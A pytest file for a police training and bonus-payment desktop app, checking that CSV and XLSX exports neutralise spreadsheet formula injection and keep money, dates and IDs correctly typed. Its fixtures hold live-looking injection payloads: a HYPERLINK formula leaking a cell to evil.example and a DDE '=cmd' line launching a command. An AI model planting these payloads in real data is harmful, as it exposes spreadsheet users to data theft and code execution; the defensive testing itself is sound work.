"""Every CSV and XLSX the app writes: no cell a spreadsheet would run, and cells Excel can use
(numbers and money as numbers, dates as dates, sized columns, a frozen header, filters)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import redirect_stdout
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet
from sqlite_utils import Database

from deesc_desktop.cli import main
from deesc_desktop.core.auth import Actor, Role
from deesc_desktop.core.cells import FORMULA_STARTS
from deesc_desktop.reports import REPORTS, ReportParams, export_table
from deesc_desktop.services import bonus, claim_workflow, funding
from deesc_desktop.services.export import export_roster, export_training
from deesc_desktop.services.imports import import_file
from deesc_desktop.services.officers import add_officer
from deesc_desktop.services.training import Attendee, record_class
from deesc_desktop.store import open_database

CHIEF = Actor("chief.ortiz", Role.CHIEF)
FINANCE = Actor("fin.lee", Role.FINANCE)
SERGEANT = Actor("sgt.delgado", Role.TRAINING_OFFICER)

HOSTILE = {
    "last_name": '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "first_name": "+1 555 0100",
    "unit": "@SUM(A1:A9)",
    "shift": "-2+3",
}
COURSE = "=cmd|' /C calc'!A0"
INSTRUCTOR = "\t=1+1"
PROVIDER = " =2+2"


@pytest.fixture
def paid(db: Database, admin: Actor) -> int:
    """An officer and a class whose words are formulas, a paid claim and a recovered $200."""
    officer = add_officer(
        db, admin, {"badge": "0101", "hire_date": "2015-03-01", **HOSTILE, "rank": "Officer"}
    )
    record_class(
        db,
        admin,
        {
            "course": COURSE,
            "course_number": "@ICAT",
            "completed": "2025-03-04",
            "hours": 8,
            "topics": "de_escalation",
            "instructor": INSTRUCTOR,
            "provider": PROVIDER,
        },
        [Attendee(officer, 60, 85)],
    )
    funding.add_funding_source(
        db,
        FINANCE,
        {
            "name": "-Local fund",
            "kind": "local_budget",
            "amount": "10000",
            "start": "2025-01-01",
            "end": "2025-12-31",
        },
    )
    program = bonus.add_program(
        db,
        CHIEF,
        {
            "name": "=Bonus 2025",
            "topics": "de_escalation",
            "min_hours": 8,
            "start": "2025-01-01",
            "end": "2025-12-31",
            "funding_source": "-Local fund",
        },
    )
    (claim,) = bonus.create_claims(db, SERGEANT, program, [officer])
    claim_workflow.submit_claims(db, SERGEANT, [claim])
    claim_workflow.approve_claims(db, CHIEF, [claim], now=datetime(2025, 6, 2, 15, tzinfo=UTC))
    batch = funding.create_payment_batch(
        db, FINANCE, {"reference": "+PR-1", "pay_date": "2025-06-13"}
    )
    funding.pay_batch(db, FINANCE, batch)
    claim_workflow.add_adjustment(
        db,
        FINANCE,
        claim,
        {"amount": "-200", "reason": "=overpaid", "adjusted_on": "2025-06-20"},
    )
    return batch


def _runs(text: str) -> bool:
    """True when a spreadsheet would take this cell for a formula."""
    return bool(text) and (text[0] in FORMULA_STARTS or text.lstrip(" ")[:1] in FORMULA_STARTS)


def csv_cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.reader(handle):
            yield from row


def assert_csv_safe(cells: list[str]) -> None:
    risky = [c for c in cells if _runs(c)]
    # Only plain numbers may start with a sign: they are numbers, not formulas.
    assert all(
        c.replace("-", "", 1).replace("$", "").replace(",", "").replace(".", "").isdigit()
        for c in risky
    ), risky


def sheet_of(path: Path) -> Worksheet:
    sheet = load_workbook(path).active
    assert isinstance(sheet, Worksheet)
    return sheet


def assert_xlsx_usable(sheet: Worksheet) -> None:
    """No formula anywhere, no text that would run, and a sheet set up for work."""
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not _runs(cell.value), (cell.coordinate, cell.value)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" + str(
        sheet.max_row
    )
    for column in range(1, sheet.max_column + 1):
        letter = sheet.cell(1, column).column_letter
        assert sheet.column_dimensions[letter].width >= len(str(sheet.cell(1, column).value))
    assert all(cell.font.b for cell in sheet[1])


def column(sheet: Worksheet, header: str) -> list[object]:
    headers = [cell.value for cell in sheet[1]]
    position = headers.index(header) + 1
    return [sheet.cell(row, position).value for row in range(2, sheet.max_row + 1)]


def test_roster_and_training_exports_run_nothing_and_keep_types(
    db: Database, paid: int, tmp_path: Path
) -> None:
    for export in (export_roster, export_training):
        export(db, tmp_path / "out.csv")
        text = list(csv_cells(tmp_path / "out.csv"))
        assert_csv_safe(text)
        export(db, tmp_path / "out.xlsx")
        assert_xlsx_usable(sheet_of(tmp_path / "out.xlsx"))
    roster = sheet_of(tmp_path / "out.xlsx")  # the training export, written last
    assert column(roster, "course") == ["'" + COURSE]
    assert column(roster, "completed") == [datetime(2025, 3, 4)]
    assert column(roster, "hours") == [8]
    assert (column(roster, "pre_test"), column(roster, "post_test")) == ([60], [85])
    assert column(roster, "badge") == ["0101"]  # an identifier stays text, leading zero kept
    export_roster(db, tmp_path / "roster.xlsx")
    officers = sheet_of(tmp_path / "roster.xlsx")
    assert column(officers, "last_name") == ["'" + HOSTILE["last_name"]]
    assert column(officers, "hire_date") == [datetime(2015, 3, 1)]
    assert officers["G1"].value == "hire_date" and officers["G2"].number_format == "yyyy-mm-dd"


def test_an_export_reimports_exactly_and_the_next_export_is_the_same(
    db: Database, paid: int, tmp_path: Path, admin: Actor
) -> None:
    """The apostrophe an export adds is taken off on import: nothing turns into a formula and
    nothing gains a stray apostrophe."""
    export_roster(db, tmp_path / "roster.csv")
    export_training(db, tmp_path / "training.csv")
    other = open_database(tmp_path / "other.db")
    try:
        from deesc_desktop.services.agency import init_agency

        init_agency(other, admin, {"name": "Other PD", "state": "IL"})
        assert import_file(other, admin, "roster", tmp_path / "roster.csv").ok
        report = import_file(other, admin, "training", tmp_path / "training.csv")
        assert report.ok, report.errors
        names = other.execute("SELECT last_name, first_name, unit, shift FROM officers").fetchone()
        assert names == tuple(HOSTILE.values())
        course = other.execute(
            "SELECT c.title, r.instructor, r.provider FROM training_records r"
            " JOIN courses c ON c.id = r.course_id"
        ).fetchone()
        assert course == (COURSE, INSTRUCTOR.strip(), PROVIDER.strip())
        export_training(other, tmp_path / "again.csv")
        export_roster(other, tmp_path / "roster-again.csv")
    finally:
        other.close()
    assert (tmp_path / "roster-again.csv").read_bytes() == (tmp_path / "roster.csv").read_bytes()
    # The instructor and provider lose their surrounding spaces on import, as any field does,
    # and are neutralised again on the way out.
    again = list(csv_cells(tmp_path / "again.csv"))
    assert_csv_safe(again)
    assert "'=1+1" in again and "'=2+2" in again


def test_payroll_batch_and_register_tables_keep_money_as_numbers(
    db: Database, paid: int, tmp_path: Path
) -> None:
    funding.export_payment_batch(db, paid, tmp_path / "batch.csv")
    assert_csv_safe(list(csv_cells(tmp_path / "batch.csv")))
    funding.export_payment_batch(db, paid, tmp_path / "batch.xlsx")
    batch = sheet_of(tmp_path / "batch.xlsx")
    assert_xlsx_usable(batch)
    assert column(batch, "amount") == [3800]
    assert column(batch, "reference") == ["'+PR-1"]
    assert column(batch, "funding_source") == ["'-Local fund"]
    params = ReportParams(start=datetime(2025, 1, 1).date(), end=datetime(2025, 12, 31).date())
    export_table("payments", db, params, tmp_path / "register.csv")
    cells = list(csv_cells(tmp_path / "register.csv"))
    assert_csv_safe(cells)
    assert "-200.00" in cells  # money recovered is a number, not neutralised text
    export_table("payments", db, params, tmp_path / "register.xlsx")
    register = sheet_of(tmp_path / "register.xlsx")
    assert_xlsx_usable(register)
    assert column(register, "amount") == [3800, -200]
    assert register["Q3"].number_format == "#,##0.00"
    approved = column(register, "approved_at")[0]
    assert approved == datetime(2025, 6, 2, 15, 0)  # local time (UTC here), zone beside it
    assert register["N2"].number_format.endswith('"UTC"')


@pytest.mark.parametrize("kind", list(REPORTS))
def test_report_tables_run_nothing(db: Database, paid: int, tmp_path: Path, kind: str) -> None:
    record = db.execute("SELECT min(id) FROM training_records").fetchone()[0]
    params = {
        "transcript": ReportParams(badge="0101"),
        "certificate": ReportParams(record_id=record),
        "voucher": ReportParams(batch=str(paid)),
        "grant": ReportParams(start=date(2025, 1, 1), end=date(2025, 12, 31)),
        "public-summary": ReportParams(start=date(2025, 1, 1), end=date(2025, 12, 31)),
    }.get(kind, ReportParams())
    export_table(kind, db, params, tmp_path / f"{kind}.xlsx")
    assert_xlsx_usable(sheet_of(tmp_path / f"{kind}.xlsx"))
    export_table(kind, db, params, tmp_path / f"{kind}.csv")
    assert_csv_safe(list(csv_cells(tmp_path / f"{kind}.csv")))


def test_transcript_table_keeps_dates_and_hours_as_such(
    db: Database, paid: int, tmp_path: Path
) -> None:
    export_table("transcript", db, ReportParams(badge="0101"), tmp_path / "t.xlsx")
    sheet = sheet_of(tmp_path / "t.xlsx")
    assert column(sheet, "completed") == [datetime(2025, 3, 4)]
    assert column(sheet, "hours") == [8]


def test_command_line_csv_runs_nothing(db_path: Path, db: Database, paid: int) -> None:
    db.close()
    for args in (
        ["bonus", "claims", "--format", "csv"],
        ["compliance", "--format", "csv", "--as-of", "2025-12-31"],
        ["bonus", "funding", "--format", "csv"],
    ):
        out = io.StringIO()
        with redirect_stdout(out):
            assert main(["--db", str(db_path), *args]) == 0
        cells = [c for row in csv.reader(io.StringIO(out.getvalue())) for c in row]
        assert_csv_safe(cells)
        assert any(c.startswith("'") for c in cells), args
